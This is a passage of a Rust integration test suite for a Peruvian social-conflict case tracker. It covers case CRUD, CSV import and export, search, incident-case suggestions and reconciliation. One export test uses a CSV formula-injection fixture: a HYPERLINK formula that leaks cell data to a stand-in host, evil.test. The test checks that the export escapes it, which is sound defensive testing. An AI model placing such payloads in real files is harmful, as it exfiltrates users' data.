//! Defensoría cases and report entries: CRUD, listing, the CSV import and
//! export, incident links, suggestions and the monthly reconciliation.

use diesel::prelude::*;
use serde_json::{json, Value};

use crate::actors::{create_actor, spcc};
use crate::cli::vigia;
use crate::helpers::{event_with, los_chancas, spawn_app, TestApp};

const HEADER: &str = "report_number,report_month,case_name,case_type,activity,region,province,district,ubigeo,companies,status,phase,violence,dialogue,description\n";

/// A report as analysts type it: accents and capitals vary, names and
/// descriptions carry commas, one case has no ubigeo.
fn good_rows() -> String {
    [
        r#"219,2022-05,"TIAPARO - TAPAYRIHUA - SPCC (LOS CHANCAS)",SOCIOAMBIENTAL,MINERÍA,APURIMAC,AYMARAES,POCOHUANCA,030410,SPCC,LATENTE,,No,No,"Comuneros de Tiaparo, Tapayrihua y mineros informales se oponen al proyecto."
"#,
        r#"220,2022-06,"Tiaparo - Tapayrihua - SPCC (Los Chancas)",Socioambiental,Minería,Apurímac,Aymaraes,Pocohuanca,030410,SPCC,Activo,Escalamiento,Sí,si,"Incendio del campamento, en mayo; la empresa denuncia a mineros informales."
"#,
        r#"220,2022-06,"Cotaruse - Comunidad de Iscahuaca",Socioambiental,Minería,Apurímac,Aymaraes,Cotaruse,030404,"Minera Ares S.A.C.",latente,,no,no,"Reclamo por contaminación del río."
"#,
        r#"220,2022-06,"Tía María - Valle de Tambo",Socioambiental,Minería,Arequipa,Islay,Cocachacra,040702,"Southern Peru Copper Corporation, Sucursal del Perú",Activo,Diálogo,no,Sí,"Mesa de diálogo, sin avances."
"#,
        r#"220,2022-06,"Conga - Celendín",Socioambiental,Minería,Cajamarca,Celendín,Sorochuco,,"Minera Yanacocha S.R.L.",En observación,,no,no,"Sin nuevos hechos."
"#,
    ]
    .concat()
}

/// Rows that must each be refused, with the reason to name.
fn bad_rows() -> (String, Vec<(u64, &'static str)>) {
    let text = [
        "221,2022-07,\"Tiaparo - Tapayrihua - SPCC (Los Chancas)\",Socioambiental,Minería,Apurímac,Aymaraes,Pocohuanca,030410,SPCC,pendiente,,no,no,\n",
        "222,2022-13,Las Bambas,Socioambiental,Minería,Apurímac,Cotabambas,Challhuahuacho,030506,,activo,,no,no,\n",
        "222,2022-08,,Socioambiental,Minería,Apurímac,Cotabambas,Challhuahuacho,030506,,activo,,no,no,\n",
        "222,2022-08,Las Bambas,Socioambiental,Minería\n",
        "222,2022-08,Las Bambas,Socioambiental,Minería,Apurímac,Cotabambas,Challhuahuacho,030506,,activo,,quizás,no,\n",
    ]
    .concat();
    // The header is line 1 and good_rows() lines 2–6.
    let reasons = vec![
        (7, "pendiente"),
        (8, "2022-13"),
        (9, "case_name"),
        (10, "columns"),
        (11, "quizás"),
    ];
    (text, reasons)
}

/// A CSV file, removed when dropped.
fn write_csv(body: &str) -> tempfile::NamedTempFile {
    let file = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
    std::fs::write(file.path(), body).unwrap();
    file
}

/// Runs `vigia import report-entries` on the app's database.
fn import(app: &TestApp, path: &std::path::Path, extra: &[&str]) -> (bool, String) {
    let out = vigia(&app.test_db)
        .args(["import", "report-entries", path.to_str().unwrap()])
        .args(extra)
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn items(res: &crate::helpers::Response) -> Vec<Value> {
    assert_eq!(res.status, 200, "{}", res.body);
    res.body["items"].as_array().unwrap().clone()
}

fn names(res: &crate::helpers::Response) -> Vec<String> {
    items(res)
        .iter()
        .map(|c| c["name"].as_str().unwrap().to_string())
        .collect()
}

async fn audit_count(app: &TestApp) -> usize {
    let mut total = 0;
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/api/v1/audit?limit=200&cursor={c}"),
            None => "/api/v1/audit?limit=200".to_string(),
        };
        let res = app.get(&path, &app.admin).await;
        total += items(&res).len();
        match res.body["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => return total,
        }
    }
}

fn case_body() -> Value {
    json!({
        "name": "Tiaparo - Tapayrihua - SPCC (Los Chancas)",
        "case_type": "socioambiental",
        "activity": "minería",
        "region": "Apurímac",
        "province": "Aymaraes",
        "district": "Pocohuanca",
        "ubigeo": "030410"
    })
}

#[actix_web::test]
async fn cases_and_entries_crud_with_timeline_versions_and_audit() {
    let app = spawn_app().await;
    let company = create_actor(&app, spcc()).await;
    let mut body = case_body();
    body["companies"] = json!([company["id"]]);
    let res = app.post("/api/v1/cases", &app.monitor, body.clone()).await;
    assert_eq!(res.status, 201, "{}", res.body);
    assert_eq!(res.header("etag").as_deref(), Some("\"1\""));
    let case = res.body.clone();
    let path = res.header("location").unwrap();
    assert_eq!(
        case["companies"][0]["name"],
        "Southern Perú Copper Corporation"
    );
    assert_eq!(case["status"], Value::Null);
    // One name in one district is one case, whatever the capitals.
    let mut twin = body.clone();
    twin["name"] = json!("TIAPARO - TAPAYRIHUA - SPCC (LOS CHANCAS)");
    twin["district"] = json!("POCOHUANCA");
    app.post("/api/v1/cases", &app.monitor, twin)
        .await
        .problem(409);
    app.post("/api/v1/cases", &app.researcher, body.clone())
        .await
        .problem(403);

    let entries = format!("{path}/entries");
    let res = app
        .post(
            &entries,
            &app.monitor,
            json!({"report_number": 221, "report_month": "2022-07", "status": "activo", "phase": "dialogo", "dialogue": true}),
        )
        .await;
    assert_eq!(res.status, 201, "{}", res.body);
    let later = res.body.clone();
    let res = app
        .post(
            &entries,
            &app.admin,
            json!({"report_number": 220, "report_month": "2022-06", "status": "activo", "phase": "escalamiento", "violence": true, "description": "Incendio del campamento."}),
        )
        .await;
    assert_eq!(res.status, 201, "{}", res.body);
    app.post(
        &entries,
        &app.monitor,
        json!({"report_number": 220, "report_month": "2022-06", "status": "latente"}),
    )
    .await
    .problem(409);

    let res = app.get(&path, &app.researcher).await;
    assert_eq!(res.status, 200, "{}", res.body);
    let numbers: Vec<i64> = res.body["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["report_number"].as_i64().unwrap())
        .collect();
    assert_eq!(numbers, [220, 221], "the timeline is by report number");
    assert_eq!(res.body["status"], "activo");
    assert_eq!(res.body["phase"], "dialogo");
    assert_eq!(
        res.body["first_report"],
        json!({"number": 220, "month": "2022-06"})
    );
    assert_eq!(
        res.body["last_report"],
        json!({"number": 221, "month": "2022-07"})
    );

    // Entries: patch with versions, delete moves the derived state back.
    let entry_path = format!("/api/v1/report-entries/{}", later["id"].as_str().unwrap());
    app.patch(
        &entry_path,
        &app.monitor,
        json!({"status": "resuelto"}),
        Some("\"7\""),
    )
    .await
    .problem(412);
    app.patch(
        &entry_path,
        &app.monitor,
        json!({"report_number": 220, "report_month": "2022-06"}),
        Some("*"),
    )
    .await
    .problem(409);
    let res = app
        .patch(
            &entry_path,
            &app.monitor,
            json!({"status": "resuelto", "phase": null}),
            Some("\"1\""),
        )
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(res.body["version"], 2);
    assert_eq!(
        app.get(&path, &app.researcher).await.body["status"],
        "resuelto"
    );
    app.delete(&entry_path, &app.monitor, Some("\"2\"")).await;
    let res = app.get(&path, &app.researcher).await;
    assert_eq!(res.body["status"], "activo");
    assert_eq!(res.body["last_report"]["number"], 220);
    app.get(&entry_path, &app.researcher).await.problem(404);

    // The case: merge patch with If-Match, then soft delete.
    app.patch(
        &path,
        &app.monitor,
        json!({"activity": "hidrocarburos"}),
        Some("\"9\""),
    )
    .await
    .problem(412);
    let res = app
        .patch(
            &path,
            &app.monitor,
            json!({"activity": "hidrocarburos", "companies": []}),
            Some("\"1\""),
        )
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(res.body["version"], 2);
    assert_eq!(res.body["activity"], "hidrocarburos");
    assert_eq!(res.body["companies"], json!([]));
    assert_eq!(
        res.body["status"], "activo",
        "a case edit keeps the derived state"
    );
    let res = app.delete(&path, &app.monitor, Some("\"2\"")).await;
    assert_eq!(res.status, 204, "{}", res.body);
    app.get(&path, &app.researcher).await.problem(404);

    let id = case["id"].as_str().unwrap();
    let res = app
        .get(
            &format!("/api/v1/audit?entity=case&entity_id={id}"),
            &app.admin,
        )
        .await;
    let actions: Vec<String> = items(&res)
        .iter()
        .map(|r| r["action"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(actions, ["delete", "update", "create"]);
    let res = app
        .get("/api/v1/audit?entity=report_entry", &app.admin)
        .await;
    assert_eq!(items(&res).len(), 4, "two creates, an update, a delete");

    // An admin brings the case back, with its timeline; only once.
    let restore = format!("{path}/restore");
    app.post(&restore, &app.monitor, json!({}))
        .await
        .problem(403);
    let res = app.post(&restore, &app.admin, json!({})).await;
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(res.body["status"], "activo");
    assert_eq!(res.body["entries"].as_array().unwrap().len(), 1);
    assert_eq!(app.get(&path, &app.researcher).await.status, 200);
    app.post(&restore, &app.admin, json!({})).await.problem(409);
    // Deleted again, and its name taken meanwhile by a new case: refused.
    let tag = app.get(&path, &app.admin).await.header("etag").unwrap();
    assert_eq!(app.delete(&path, &app.admin, Some(&tag)).await.status, 204);
    let res = app.post("/api/v1/cases", &app.monitor, case_body()).await;
    assert_eq!(res.status, 201, "{}", res.body);
    app.post(&restore, &app.admin, json!({})).await.problem(409);
    app.post(
        "/api/v1/cases/6f1c3a52-8d2e-4f0b-9a57-1c2d3e4f5a6b/restore",
        &app.admin,
        json!({}),
    )
    .await
    .problem(404);
}

#[actix_web::test]
async fn bad_case_and_entry_inputs_are_named_problems() {
    let app = spawn_app().await;
    let res = app
        .post(
            "/api/v1/cases",
            &app.monitor,
            json!({"name": " ", "case_type": "minero", "ubigeo": "0304100", "companies": [uuid::Uuid::new_v4()]}),
        )
        .await;
    assert_eq!(res.invalid_fields(), vec!["case_type", "name", "ubigeo"]);
    let res = app
        .post(
            "/api/v1/cases",
            &app.monitor,
            json!({"name": "X", "case_type": "comunal", "companies": [uuid::Uuid::new_v4()]}),
        )
        .await;
    assert_eq!(res.invalid_fields(), vec!["companies[0]"]);
    app.post(
        "/api/v1/cases",
        &app.monitor,
        json!({"name": "X", "case_type": "comunal", "extra": 1}),
    )
    .await
    .problem(422);
    app.send(
        actix_web::http::Method::POST,
        "/api/v1/cases",
        Some(&app.monitor),
        &[],
        Some(("text/plain", b"name=x".to_vec())),
    )
    .await
    .problem(415);
    app.send(
        actix_web::http::Method::POST,
        "/api/v1/cases",
        Some(&app.monitor),
        &[],
        Some(("application/json", b"{\"name\":".to_vec())),
    )
    .await
    .problem(400);

    let case = app
        .post("/api/v1/cases", &app.monitor, case_body())
        .await
        .body;
    let entries = format!("/api/v1/cases/{}/entries", case["id"].as_str().unwrap());
    for (body, fields) in [
        (
            json!({"report_number": 220, "report_month": "2022-07", "status": "activo"}),
            vec!["report_month"],
        ),
        (
            json!({"report_number": 220, "report_month": "2022-13", "status": "activo"}),
            vec!["report_month"],
        ),
        (
            json!({"report_number": 0, "report_month": "2004-02", "status": "Activo", "phase": "calma"}),
            vec!["phase", "report_number", "status"],
        ),
        (
            json!({"report_month": "2022-06"}),
            vec!["report_number", "status"],
        ),
        (
            json!({"report_number": 99999, "report_month": "2022-06", "status": "activo"}),
            vec!["report_number"],
        ),
    ] {
        let res = app.post(&entries, &app.monitor, body.clone()).await;
        assert_eq!(res.invalid_fields(), fields, "{body}");
    }
    let res = app
        .post(
            &entries,
            &app.monitor,
            json!({"report_number": "220", "report_month": "2022-06", "status": "activo"}),
        )
        .await;
    assert_eq!(res.invalid_fields(), vec!["report_number"]);
    // A report far in the future does not exist yet.
    let res = app
        .post(
            &entries,
            &app.monitor,
            json!({"report_number": 9000, "report_month": "2754-02", "status": "activo"}),
        )
        .await;
    assert_eq!(res.invalid_fields(), vec!["report_number"]);

    let ghost = uuid::Uuid::new_v4();
    app.post(
        &format!("/api/v1/cases/{ghost}/entries"),
        &app.monitor,
        json!({"report_number": 220, "report_month": "2022-06", "status": "activo"}),
    )
    .await
    .problem(404);
    app.get("/api/v1/cases/not-a-uuid", &app.researcher)
        .await
        .problem(404);
    app.get(&format!("/api/v1/report-entries/{ghost}"), &app.researcher)
        .await
        .problem(404);
    for query in [
        "ubigeo=03a",
        "ubigeo=0304101",
        "status=pendiente",
        "limit=0",
        "limit=201",
        "report_number=x",
        "report_number=0",
        "cursor=%21%21",
        "unknown=1",
        "q=",
    ] {
        app.get(&format!("/api/v1/cases?{query}"), &app.researcher)
            .await
            .problem(400);
    }
    app.request(actix_web::http::Method::GET, "/api/v1/cases", None, None)
        .await
        .problem(401);
    // Nothing was written by any of that.
    let res = app.get("/api/v1/cases", &app.researcher).await;
    assert_eq!(items(&res).len(), 1);
    assert_eq!(
        app.get(
            &format!("/api/v1/cases/{}", case["id"].as_str().unwrap()),
            &app.researcher
        )
        .await
        .body["entries"],
        json!([])
    );
}

#[actix_web::test]
async fn import_is_all_or_nothing_then_skips_bad_rows_and_is_idempotent() {
    let app = spawn_app().await;
    // SPCC exists with its alias; the file names it by the alias only.
    let company = create_actor(&app, spcc()).await;
    // Boundaries name Conga's district, whose ubigeo the file leaves out.
    {
        use vigia::schema::districts;
        let mut conn = app.db.get().unwrap();
        diesel::insert_into(districts::table)
            .values((
                districts::ubigeo.eq("060311"),
                districts::name.eq("SOROCHUCO"),
                districts::province.eq("CELENDIN"),
                districts::region.eq("CAJAMARCA"),
                districts::geometry.eq(r#"{"type":"Polygon","coordinates":[[[-78.1,-6.9],[-78.0,-6.9],[-78.0,-6.8],[-78.1,-6.9]]]}"#),
            ))
            .execute(&mut *conn)
            .unwrap();
    }
    let (bad, reasons) = bad_rows();
    let mixed = write_csv(&format!("{HEADER}{}{bad}", good_rows()));
    let audit_before = audit_count(&app).await;

    let (ok, stderr) = import(&app, mixed.path(), &[]);
    assert!(!ok, "bad rows must fail the import: {stderr}");
    for (line, reason) in &reasons {
        let found = stderr
            .lines()
            .any(|l| l.starts_with(&format!("line {line}:")) && l.contains(reason));
        assert!(found, "line {line} ({reason}) not reported in {stderr}");
    }
    assert!(stderr.contains("nothing was imported"), "{stderr}");
    assert!(items(&app.get("/api/v1/cases", &app.researcher).await).is_empty());
    assert_eq!(audit_count(&app).await, audit_before, "no partial write");

    let (ok, stderr) = import(&app, mixed.path(), &["--skip-invalid"]);
    assert!(ok, "{stderr}");
    assert_eq!(
        stderr.lines().filter(|l| l.starts_with("line ")).count(),
        reasons.len()
    );
    assert!(stderr.contains("cases 4 added"), "{stderr}");
    assert!(stderr.contains("entries 5 added"), "{stderr}");
    let cases = items(&app.get("/api/v1/cases", &app.researcher).await);
    assert_eq!(cases.len(), 4, "LOS CHANCAS and Los Chancas are one case");
    let chancas = cases
        .iter()
        .find(|c| {
            c["name"].as_str().unwrap().contains("Chancas")
                || c["name"].as_str().unwrap().contains("CHANCAS")
        })
        .unwrap();
    assert_eq!(chancas["status"], "activo", "the latest report's state");
    assert_eq!(chancas["phase"], "escalamiento");
    assert_eq!(chancas["first_report"]["number"], 219);
    assert_eq!(
        chancas["companies"],
        json!([{"id": company["id"], "name": "Southern Perú Copper Corporation"}])
    );
    let res = app
        .get(
            &format!("/api/v1/cases/{}", chancas["id"].as_str().unwrap()),
            &app.researcher,
        )
        .await;
    let timeline = res.body["entries"].as_array().unwrap();
    assert_eq!(timeline[0]["status"], "latente");
    assert_eq!(timeline[1]["violence"], true);
    assert_eq!(timeline[1]["dialogue"], true);
    assert_eq!(
        timeline[1]["description"],
        "Incendio del campamento, en mayo; la empresa denuncia a mineros informales."
    );
    let tia_maria = cases
        .iter()
        .find(|c| c["name"] == "Tía María - Valle de Tambo")
        .unwrap();
    assert_eq!(
        tia_maria["companies"][0]["id"], company["id"],
        "by name, legal suffixes aside"
    );
    assert_eq!(tia_maria["phase"], "dialogo");
    let conga = cases
        .iter()
        .find(|c| c["name"] == "Conga - Celendín")
        .unwrap();
    assert_eq!(conga["ubigeo"], "060311", "from the boundaries' names");
    assert_eq!(conga["status"], "observacion");
    let ares = cases.iter().find(|c| c["district"] == "Cotaruse").unwrap();
    assert_eq!(
        ares["companies"][0]["name"], "Minera Ares S.A.C.",
        "a new company is an actor"
    );
    let actors = items(&app.get("/api/v1/actors?q=ares", &app.researcher).await);
    assert_eq!(actors[0]["kind"], "company");

    // The same file again changes nothing.
    let audit_after = audit_count(&app).await;
    let (ok, stderr) = import(&app, mixed.path(), &["--skip-invalid"]);
    assert!(ok, "{stderr}");
    assert!(
        stderr.contains("cases 0 added, 0 updated; entries 0 added, 0 updated, 5 unchanged"),
        "{stderr}"
    );
    let again = items(&app.get("/api/v1/cases", &app.researcher).await);
    assert_eq!(again, cases);
    assert_eq!(
        audit_count(&app).await,
        audit_after + 1,
        "only the import's summary"
    );

    // A file that is not a report is refused as a whole.
    let wrong = write_csv("numero,mes\n220,2022-06\n");
    let (ok, stderr) = import(&app, wrong.path(), &[]);
    assert!(!ok);
    assert!(stderr.contains("header"), "{stderr}");
    let (ok, stderr) = import(&app, std::path::Path::new("/nonexistent/reporte.csv"), &[]);
    assert!(!ok);
    assert!(stderr.contains("/nonexistent/reporte.csv"), "{stderr}");
}

#[actix_web::test]
async fn list_filters_search_and_pages() {
    let app = spawn_app().await;
    let file = write_csv(&format!("{HEADER}{}", good_rows()));
    let (ok, stderr) = import(&app, file.path(), &[]);
    assert!(ok, "{stderr}");
    let get = |query: &'static str| {
        let app = &app;
        async move {
            names(
                &app.get(&format!("/api/v1/cases?{query}"), &app.researcher)
                    .await,
            )
        }
    };
    assert_eq!(get("q=tia%20maria").await, ["Tía María - Valle de Tambo"]);
    assert_eq!(
        get("q=T%C3%8DA%20MAR%C3%8DA").await,
        ["Tía María - Valle de Tambo"]
    );
    assert_eq!(get("q=chancas").await.len(), 1);
    assert_eq!(get("q=100%25").await.len(), 0);
    assert_eq!(get("region=apurimac").await.len(), 2);
    assert_eq!(get("region=APUR%C3%8DMAC").await.len(), 2);
    assert_eq!(get("ubigeo=04").await, ["Tía María - Valle de Tambo"]);
    assert_eq!(get("ubigeo=0304").await.len(), 2);
    assert_eq!(get("status=activo").await.len(), 2);
    assert_eq!(get("status=observacion").await, ["Conga - Celendín"]);
    assert_eq!(get("report_number=219").await.len(), 1);
    assert_eq!(get("report_number=220").await.len(), 4);
    assert_eq!(get("report_number=221").await.len(), 0);
    assert_eq!(get("region=apurimac&status=latente").await.len(), 1);

    let mut seen = Vec::new();
    let mut path = "/api/v1/cases?limit=3".to_string();
    loop {
        let res = app.get(&path, &app.researcher).await;
        seen.extend(names(&res));
        match res.body["next_cursor"].as_str() {
            Some(c) => path = format!("/api/v1/cases?limit=3&cursor={c}"),
            None => break,
        }
    }
    let mut sorted = seen.clone();
    sorted.sort();
    assert_eq!(seen, sorted);
    assert_eq!(seen.len(), 4);
}

#[actix_web::test]
async fn entries_export_imports_back_to_the_same_data() {
    let app = spawn_app().await;
    create_actor(&app, spcc()).await;
    // A hostile case: its name and description are spreadsheet formulas.
    let hostile = r#"220,2022-06,"=HYPERLINK(""http://evil.test/?leak=""&A2,""Click"")",Socioambiental,Minería,Puno,Puno,Puno,,"@Minera Mala",latente,,no,no,"-5 heridos; +2 detenidos"
"#;
    let file = write_csv(&format!("{HEADER}{}{hostile}", good_rows()));
    let (ok, stderr) = import(&app, file.path(), &[]);
    assert!(ok, "{stderr}");
    let res = app
        .get("/api/v1/report-entries/export.csv", &app.researcher)
        .await;
    assert_eq!(res.status, 200);
    assert!(res.header("content-type").unwrap().starts_with("text/csv"));
    let exported = res.body.as_str().unwrap().to_string();
    assert!(exported.starts_with(HEADER), "{exported}");
    assert_eq!(exported.lines().count(), 7);
    assert!(exported.contains(
        "\"Incendio del campamento, en mayo; la empresa denuncia a mineros informales.\""
    ));
    // No cell starts as a formula: each is quoted with `'`.
    assert!(
        exported.contains(r#""'=HYPERLINK(""http://evil.test/?leak=""&A2,""Click"")""#),
        "{exported}"
    );
    assert!(exported.contains(",'@Minera Mala,"), "{exported}");
    assert!(
        exported.contains(",'-5 heridos; +2 detenidos"),
        "{exported}"
    );
    let starts_formula = |line: &str| {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(line.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        record
            .iter()
            .any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
    };
    assert!(!exported.lines().any(starts_formula), "{exported}");

    // Into the same database: nothing changes.
    let again = write_csv(&exported);
    let (ok, stderr) = import(&app, again.path(), &[]);
    assert!(ok, "{stderr}");
    assert!(
        stderr.contains("entries 0 added, 0 updated, 6 unchanged"),
        "{stderr}"
    );

    // Into an empty database: the same export comes out.
    let other = spawn_app().await;
    let (ok, stderr) = import(&other, again.path(), &[]);
    assert!(ok, "{stderr}");
    let res = other
        .get("/api/v1/report-entries/export.csv", &other.researcher)
        .await;
    assert_eq!(res.body.as_str().unwrap(), exported);

    let res = app.get("/api/v1/cases/export.csv", &app.researcher).await;
    assert_eq!(res.status, 200);
    let cases = res.body.as_str().unwrap();
    assert!(cases.starts_with("id,name,case_type,"), "{cases}");
    assert_eq!(cases.lines().count(), 6);
    assert!(cases.contains(r#","'=HYPERLINK("#), "{cases}");
    assert!(!cases.lines().any(starts_formula), "{cases}");
    let chancas = cases
        .lines()
        .find(|l| l.contains("Chancas") || l.contains("CHANCAS"))
        .unwrap();
    assert!(
        chancas.contains(",activo,escalamiento,219,2022-05,220,2022-06"),
        "{chancas}"
    );
    app.request(
        actix_web::http::Method::GET,
        "/api/v1/cases/export.csv",
        None,
        None,
    )
    .await
    .problem(401);
}

/// The Los Chancas fire with SPCC as the affected company.
async fn los_chancas_fire(app: &TestApp) -> (String, Value) {
    let company = create_actor(app, spcc()).await;
    let event = app.create_event(los_chancas()).await;
    let id = event["id"].as_str().unwrap().to_string();
    let res = app
        .post(
            &format!("/api/v1/events/{id}/actors"),
            &app.monitor,
            json!({"actor_id": company["id"], "role": "affected", "attribution": "confirmed"}),
        )
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
    (id, company)
}

#[actix_web::test]
async fn suggestions_put_los_chancas_first_above_the_decoys() {
    let app = spawn_app().await;
    let (event_id, _) = los_chancas_fire(&app).await;
    // Decoys: the same province in another district (Cotaruse), the same
    // company in another region (Tía María), and Conga, which shares nothing.
    let file = write_csv(&format!("{HEADER}{}", good_rows()));
    let (ok, stderr) = import(&app, file.path(), &[]);
    assert!(ok, "{stderr}");
    let res = app
        .get(
            &format!("/api/v1/events/{event_id}/case-suggestions"),
            &app.researcher,
        )
        .await;
    let list = items(&res);
    let ranked: Vec<&str> = list
        .iter()
        .map(|s| s["case"]["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        ranked,
        [
            "Tiaparo - Tapayrihua - SPCC (Los Chancas)",
            "Tía María - Valle de Tambo",
            "Cotaruse - Comunidad de Iscahuaca",
        ],
        "{}",
        res.body
    );
    let best = &list[0];
    let reasons: Vec<&str> = best["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap())
        .collect();
    assert!(reasons.contains(&"same district 030410"), "{reasons:?}");
    assert!(reasons.contains(&"company SPCC in both"), "{reasons:?}");
    assert!(
        reasons.contains(&"case latent in report 219 (2022-05), in the month of the incident"),
        "{reasons:?}"
    );
    let scores: Vec<f64> = list.iter().map(|s| s["score"].as_f64().unwrap()).collect();
    assert!(scores.windows(2).all(|w| w[0] > w[1]), "{scores:?}");
    assert!(scores.iter().all(|s| (0.0..=1.0).contains(s)));
    assert!(scores[0] > 0.8, "{scores:?}");
    assert!(list[1]["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r.as_str().unwrap().starts_with("company")));
    assert_eq!(list[2]["reasons"][0], "same province 0304");

    let res = app
        .get(
            &format!("/api/v1/events/{event_id}/case-suggestions?limit=1"),
            &app.researcher,
        )
        .await;
    assert_eq!(items(&res).len(), 1);
    for query in ["limit=0", "limit=51", "limit=x", "other=1"] {
        app.get(
            &format!("/api/v1/events/{event_id}/case-suggestions?{query}"),
            &app.researcher,
        )
        .await
        .problem(400);
    }
    let ghost = uuid::Uuid::new_v4();
    app.get(
        &format!("/api/v1/events/{ghost}/case-suggestions"),
        &app.researcher,
    )
    .await
    .problem(404);
    // An incident elsewhere, with no company, gets no suggestion, though
    // every case was reported that month.
    let lonely = app
        .create_event(event_with(
            json!({"admin": {"ubigeo": "150101"}, "occurred_on": "2022-06-05"}),
        ))
        .await;
    let res = app
        .get(
            &format!(
                "/api/v1/events/{}/case-suggestions",
                lonely["id"].as_str().unwrap()
            ),
            &app.researcher,
        )
        .await;
    assert!(items(&res).is_empty(), "{}", res.body);
}

#[actix_web::test]
async fn links_embed_cases_and_reconciliation_finds_what_is_missing() {
    let app = spawn_app().await;
    let (event_id, _) = los_chancas_fire(&app).await;
    // An incident with no company and no concession stays out of the reconciliation.
    let plain = app
        .create_event(event_with(json!({"occurred_on": "2022-06-10"})))
        .await;
    // One inside a mining concession, with no actor, is in it, within the
    // month ±1 only.
    let res = app
        .post(
            "/api/v1/concessions",
            &app.admin,
            json!({"code": "X9", "name": "TINTAYA", "geometry": {"type": "Polygon", "coordinates": [[
                [-71.35, -14.95], [-71.25, -14.95], [-71.25, -14.85], [-71.35, -14.85], [-71.35, -14.95]]]}}),
        )
        .await;
    assert_eq!(res.status, 201, "{}", res.body);
    let inside = json!({"lat": -14.9, "lon": -71.3});
    let mining = app
        .create_event(event_with(
            json!({"occurred_on": "2022-07-15", "location": inside}),
        ))
        .await;
    assert_eq!(mining["concessions"][0]["code"], "X9");
    let mining_id = mining["id"].as_str().unwrap().to_string();
    app.create_event(event_with(
        json!({"occurred_on": "2022-08-01", "location": inside}),
    ))
    .await;
    let file = write_csv(&format!("{HEADER}{}", good_rows()));
    let (ok, stderr) = import(&app, file.path(), &[]);
    assert!(ok, "{stderr}");
    let cases = items(&app.get("/api/v1/cases?q=chancas", &app.researcher).await);
    let case_id = cases[0]["id"].as_str().unwrap().to_string();

    let res = app
        .get("/api/v1/reconciliation?report_number=220", &app.researcher)
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(res.body["report_month"], "2022-06");
    assert_eq!(
        res.body["cases_without_events"].as_array().unwrap().len(),
        4
    );
    let lonely: Vec<&str> = res.body["events_without_case"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_str().unwrap())
        .collect();
    assert_eq!(lonely, [event_id.as_str(), mining_id.as_str()]);
    assert!(!lonely.contains(&plain["id"].as_str().unwrap()));

    // Link, with a note; the incident embeds its case.
    let links = format!("/api/v1/events/{event_id}/cases");
    app.post(&links, &app.researcher, json!({"case_id": case_id}))
        .await
        .problem(403);
    let res = app
        .post(
            &links,
            &app.monitor,
            json!({"case_id": uuid::Uuid::new_v4()}),
        )
        .await;
    assert_eq!(res.invalid_fields(), vec!["case_id"]);
    let res = app
        .post(&links, &app.monitor, json!({"case_id": "x"}))
        .await;
    assert_eq!(res.invalid_fields(), vec!["case_id"]);
    app.post(
        &format!("/api/v1/events/{}/cases", uuid::Uuid::new_v4()),
        &app.monitor,
        json!({"case_id": case_id}),
    )
    .await
    .problem(404);
    let res = app
        .post(
            &links,
            &app.monitor,
            json!({"case_id": case_id, "note": "Reporte N.° 220"}),
        )
        .await;
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(res.body["cases"][0]["id"], case_id.as_str());
    assert_eq!(res.body["cases"][0]["status"], "activo");
    assert_eq!(res.body["cases"][0]["note"], "Reporte N.° 220");
    let res = app
        .post(&links, &app.monitor, json!({"case_id": case_id}))
        .await;
    assert_eq!(
        res.body["cases"].as_array().unwrap().len(),
        1,
        "linking twice is one link"
    );
    let res = app
        .get(&format!("/api/v1/events/{event_id}"), &app.researcher)
        .await;
    assert_eq!(
        res.body["cases"][0]["name"],
        "Tiaparo - Tapayrihua - SPCC (Los Chancas)"
    );
    let res = app
        .get(&format!("/api/v1/cases/{case_id}/events"), &app.researcher)
        .await;
    let ids: Vec<&str> = res.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [event_id.as_str()]);
    app.get(
        &format!("/api/v1/cases/{}/events", uuid::Uuid::new_v4()),
        &app.researcher,
    )
    .await
    .problem(404);

    for path in [
        "/api/v1/reconciliation?report_number=220",
        "/api/v1/reconciliation?month=2022-06",
    ] {
        let res = app.get(path, &app.researcher).await;
        assert_eq!(res.status, 200, "{}", res.body);
        let without: Vec<&str> = res.body["cases_without_events"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["name"].as_str().unwrap())
            .collect();
        assert_eq!(without.len(), 3);
        assert!(!without
            .iter()
            .any(|n| n.contains("Chancas") || n.contains("CHANCAS")));
        let lonely: Vec<&str> = res.body["events_without_case"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["id"].as_str().unwrap())
            .collect();
        assert_eq!(lonely, [mining_id.as_str()]);
    }
    // Report 219 (May) also sees the May fire within its month ±1.
    let res = app
        .get("/api/v1/reconciliation?report_number=219", &app.researcher)
        .await;
    assert_eq!(res.body["cases_without_events"], json!([]));

    for query in ["", "?report_number=221", "?month=2030-01"] {
        let res = app
            .get(&format!("/api/v1/reconciliation{query}"), &app.researcher)
            .await;
        assert!(matches!(res.status, 400 | 404), "{query}: {}", res.body);
        res.problem(res.status);
    }
    app.get("/api/v1/reconciliation?report_number=221", &app.researcher)
        .await
        .problem(404);
    for query in [
        "report_number=220&month=2022-07",
        "month=2022-13",
        "month=junio",
        "report_number=0",
        "report_number=x",
    ] {
        app.get(&format!("/api/v1/reconciliation?{query}"), &app.researcher)
            .await
            .problem(400);
    }

    // Unlink: the case has no incident again.
    let res = app
